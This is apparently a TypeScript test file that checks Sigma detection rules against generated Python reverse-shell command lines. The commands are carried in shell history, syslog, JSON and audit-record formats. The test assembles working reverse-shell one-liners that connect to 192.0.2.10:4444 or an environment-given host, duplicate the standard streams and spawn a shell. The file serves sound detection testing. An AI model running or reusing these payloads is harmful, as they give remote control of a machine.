import { readFileSync } from 'node:fs';
import { createEvaluator, eventFromLog } from '@sigmazuh/evaluator';
import { Diagnostics, parseSigma } from '@sigmazuh/parser';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { auditRecord } from '../packages/cli/src/fixtures/audit-record.ts';

const rules = ['python_socket_connect', 'python_socket_dup', 'python_reverse_shell'].flatMap((name) => {
  const url = new URL(`../sigma/linux/${name}.yml`, import.meta.url);
  return parseSigma(readFileSync(url, 'utf8'), name, new Diagnostics());
});
const judge = createEvaluator(rules);

const levelsOf = (log: string): readonly (string | undefined)[] =>
  judge.evaluate(eventFromLog({ logsource: { product: 'linux' }, log })).map((rule) => rule.level?.value);

/** Everything the same reverse shell may be spelled with. */
const spelling = fc.record({
  program: fc.constantFrom(
    ...['python', 'python2', 'python3', 'python3.11', '/usr/bin/python3', '/usr/local/bin/python2.7'],
  ),
  modules: fc.constantFrom('socket,os,pty', 'pty,os,socket', 'os,socket,pty', 'sys,pty,socket,os'),
  imports: fc.constantFrom('one statement', 'a statement each'),
  socket: fc.constantFrom('socket.socket()', 'socket.socket(socket.AF_INET,socket.SOCK_STREAM)'),
  address: fc.constantFrom('given', 'from the environment'),
  streams: fc.constantFrom('spelled out', 'comprehension', 'loop'),
  shell: fc.constantFrom('sh', 'bash', '/bin/sh', '/bin/bash', '/usr/bin/zsh'),
  quote: fc.constantFrom('"', "'"),
  separator: fc.constantFrom(';', '; ', '\n'),
});
type Spelling = typeof spelling extends fc.Arbitrary<infer T> ? T : never;

function code(variant: Spelling): string {
  const quoted = (text: string) => variant.quote + text + variant.quote;
  const { modules } = variant;
  const imports =
    variant.imports === 'one statement'
      ? [`import ${modules}`]
      : modules.split(',').map((name) => `import ${name}`);
  const host = variant.address === 'given' ? quoted('192.0.2.10') : `os.getenv(${quoted('RHOST')})`;
  const port = variant.address === 'given' ? '4444' : `int(os.getenv(${quoted('RPORT')}))`;
  const connection = [`s=${variant.socket}`, `s.connect((${host},${port}))`];
  return [...imports, ...connection, ...streams(variant), `pty.spawn(${quoted(variant.shell)})`].join(
    variant.separator,
  );
}

function streams(variant: Spelling): readonly string[] {
  switch (variant.streams) {
    case 'comprehension':
      return ['[os.dup2(s.fileno(),fd) for fd in (0,1,2)]'];
    case 'loop':
      // A loop begins a line of its own in Python; in front of it the line ends whatever separates the others.
      return ['\nfor fd in (0,1,2): os.dup2(s.fileno(),fd)\n'];
    default:
      return ['os.dup2(s.fileno(),0)', 'os.dup2(s.fileno(),1)', 'os.dup2(s.fileno(),2)'];
  }
}

/** The ways the command gets into a log. */
const carriers: Readonly<Record<string, (program: string, code: string) => string>> = {
  'a shell history': (program, code) => `${program} -c '${code.replaceAll("'", `'"'"'`)}'`,
  'a shell history, quotes escaped': (program, code) => `${program} -c "${code.replaceAll('"', '\\"')}"`,
  'a syslog line': (program, code) =>
    `Nov 24 10:00:00 web01 bash[412]: root: ${program} -c "${code.replaceAll('"', '\\"').replaceAll('\n', ' ')}"`,
  'a JSON log': (program, code) =>
    JSON.stringify({ time: 1795514400, note: { command: `${program} -c "${code.replaceAll('"', '\\"')}"` } }),
  'a JSON log of arguments': (program, code) => JSON.stringify({ argv: [program, '-c', code] }),
  'an audit record': (program, code) => auditRecord('EXECVE', [program, '-c', code]),
  'an audit record of a shell': (program, code) =>
    auditRecord('EXECVE', ['sh', '-c', `${program} -c '${code.replaceAll("'", `'"'"'`)}'`]),
};

describe.each(Object.entries(carriers))('a Python reverse shell in %s', (_called, carry) => {
  const runs = { numRuns: 100 };

  it('reaches the high tier, however it is spelled', () => {
    fc.assert(
      fc.property(spelling, (variant) => {
        expect(levelsOf(carry(variant.program, code(variant)))).toEqual(['low', 'medium', 'high']);
      }),
      runs,
    );
  });

  it('falls to the tier below with each part that is missing', () => {
    fc.assert(
      fc.property(spelling, (variant) => {
        const whole = code(variant);
        const withoutShell = whole.replace('pty.spawn(', 'pty.open(');
        const withoutStreams = withoutShell.replaceAll('os.dup2(', 'os.dup(');
        const withoutConnection = withoutStreams.replaceAll('.connect(', '.bind(');
        expect(levelsOf(carry(variant.program, withoutShell))).toEqual(['low', 'medium']);
        expect(levelsOf(carry(variant.program, withoutStreams))).toEqual(['low']);
        expect(levelsOf(carry(variant.program, withoutConnection))).toEqual([]);
        expect(levelsOf(carry('vi', whole))).toEqual([]);
      }),
      runs,
    );
  });
});
